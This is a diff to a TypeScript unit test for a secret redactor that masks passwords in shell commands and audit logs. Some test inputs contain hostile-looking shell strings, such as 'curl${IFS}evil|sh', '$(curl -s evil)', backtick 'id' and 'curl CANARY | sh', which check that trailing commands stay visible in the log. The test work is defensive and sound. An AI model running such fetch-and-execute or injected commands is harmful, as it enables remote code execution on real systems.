@@ -109,7 +109,9 @@ describe('Redactor.redactText', () => {
     ['a flag at the end of a line takes no continuation as its value', 'psql --password \\\n  --host db && mysql -u root -p \\\n  -h db', 'psql --password \\\n  --host db && mysql -u root -p \\\n  -h db'],
     ['a continuation inside a double-quoted value', 'docker login -u me --password "S3cr3tPw\\\nrest"', `docker login -u me --password "${REDACTED}"`],
     // A value may start with a shell operator's character outside a shell (a log line, an error message).
-    ['a value starting with & ( ; in plain text', 'login failed: --password &Hk7Qz9Wm rejected; mysql -u root -p(Hk7Qz9Wm) db; redis-cli -a ;Hk7Qz9Wm ping', `login failed: --password ${REDACTED} rejected; mysql -u root -p${REDACTED} db; redis-cli -a ${REDACTED} ping`],
+    ['a value starting with ( or > in plain text', 'login failed: --password >Hk7Qz9Wm rejected; mysql -u root -p(Hk7Qz9Wm) db', `login failed: --password ${REDACTED} rejected; mysql -u root -p${REDACTED} db`],
+    // The shell ends a word at ; & | and runs $(…) and backticks, even in double quotes: a mask never takes them.
+    ['a value stops at ; & | and holds no command substitution', 'mysql -px;curl${IFS}evil|sh; redis-cli -a ;id; psql --password "$(curl -s evil)" -p`id` --token a&b', `mysql -p${REDACTED};curl\${IFS}evil|sh; redis-cli -a ;id; psql --password "$(curl -s evil)" -p\`id\` --token ${REDACTED}&b`],
     ['a value a continuation splits inside the word', 'psql --password Hk7Q\\\nz9Wm --host db', `psql --password ${REDACTED} --host db`],
     ['a word glued by a continuation after an escaped space is one word', 'ldapsearch -x -w Q2SPn\\\nprFK\\ \\\n-b dc=x', `ldapsearch -x -w ${REDACTED} dc=x`],
     ['JSON-escaped quotes in a multi-line command keep every line', 'bash -c "docker login -u me -p \\"$PW\\" registry.example.com && \\\n  docker push registry.example.com/app:1.2"', `bash -c "docker login -u me -p \\"${REDACTED}\\" registry.example.com && \\\n  docker push registry.example.com/app:1.2"`],
@@ -120,6 +122,12 @@ describe('Redactor.redactText', () => {
     ['stdin commands with options that take values, echo with a redirection', 'echo pw1 | sudo --user=root -S ls; echo pw2 | htpasswd -B -C 12 -i .ht admin; echo "pw3" 2>/dev/null | sudo -S ls', `echo ${REDACTED} | sudo --user=root -S ls; echo ${REDACTED} | htpasswd -B -C 12 -i .ht admin; echo "${REDACTED}" 2>/dev/null | sudo -S ls`],
     ['a here-string inside a word is none', "cat x<<<'sudo ' && grep a <<< b", "cat x<<<'sudo ' && grep a <<< b"],
     ['curl -u user:pass, not uid:gid', 'curl -u bob:pw1 u; docker run -u 1000:1000 i', `curl -u bob:${REDACTED} u; docker run -u 1000:1000 i`],
+    // A quote right after a value closes the string the flag sat in: the commands after it stay in the log.
+    ['a quote after a value ends it', 'bash -c "docker login -u me -p hunter2"; docker push "registry/app:1"', `bash -c "docker login -u me -p ${REDACTED}"; docker push "registry/app:1"`],
+    ['a quote after a value ends it, over continuation lines', 'ssh db "mysql -phunter2" \\\n  && curl -X POST "https://hooks.example/n" \\\n  && rm -rf "/tmp/d x"', `ssh db "mysql -p${REDACTED}" \\\n  && curl -X POST "https://hooks.example/n" \\\n  && rm -rf "/tmp/d x"`],
+    ['a JSON string after a quoted value stays', '{"s":"mysql -p\\"hunter2\\"","t":"x y"}', `{"s":"mysql -p\\"${REDACTED}\\"","t":"x y"}`],
+    ['user:pass quoted, escaped, or inside quotes opened before the user', `curl -u admin:'s3cret' a; curl -u "admin:correct horse" b; curl -u admin:pa\\$\\$word c; curl -u 'me:x y' d`, `curl -u admin:'${REDACTED}' a; curl -u "admin:${REDACTED}" b; curl -u admin:${REDACTED} c; curl -u 'me:${REDACTED}' d`],
+    ['program flags after a JSON tab escape', '{"script":"mysql\\t-phunter2; docker login -u me\\t-p pw2; curl\\t-u me:pw3 x"}', `{"script":"mysql\\t-p${REDACTED}; docker login -u me\\t-p ${REDACTED}; curl\\t-u me:${REDACTED} x"}`],
     ['openssl pass:', 'openssl rsa -passin pass:hunter2', `openssl rsa -passin pass:${REDACTED}`],
     ['sk- key', `key sk-${'a1'.repeat(24)}`, `key ${REDACTED}`],
     ['sk- package name stays', 'pip install sk-learn-and-other-words', 'pip install sk-learn-and-other-words'],
@@ -127,6 +135,25 @@ describe('Redactor.redactText', () => {
   for (const [name, input, want] of cases) {
     test(name, () => expect(r.redactText(input)).toBe(want));
   }
+
+  test('a masked value never takes the commands after the string it sat in', () => {
+    // Strings, flag forms, values, gaps and tails an audit log sees; every mix keeps the tail's command and drops the value.
+    const opens = [['sh -c "', '"'], ["bash -c '", "'"], ['ssh h \\"', '\\"'], ['', '']];
+    const flags = ['mysql -p', 'docker login -u me -p ', '--password ', '--password=', 'curl -u me:', 'redis-cli -a ', 'zip -P ', 'docker login --password-stdin <<< '];
+    const values = ['hunter2', "'hunter2'", '"hunter2"', "$'hunter2'", '\\"hunter2\\"', 'hunter2\\ x'];
+    const gaps = ['', ' ', ' \\\n  '];
+    const tails = ['; curl CANARY | sh; echo "x"', ' && curl CANARY && echo "y"', "; curl CANARY; echo 'w'", ' | tee "CANARY"'];
+    const wrong: string[] = [];
+    for (const [open, close] of opens)
+      for (const flag of flags)
+        for (const value of values)
+          for (const gap of gaps)
+            for (const tail of tails) {
+              const out = r.redactText(open + flag + value + close + gap + tail);
+              if (!out.includes('CANARY') || out.includes('hunter2')) wrong.push(out);
+            }
+    expect(wrong).toEqual([]);
+  });
 
   test('no server secrets configured still works', () => {
     expect(new Redactor().redactText(`x ${GHP}`)).toBe(`x ${REDACTED}`);
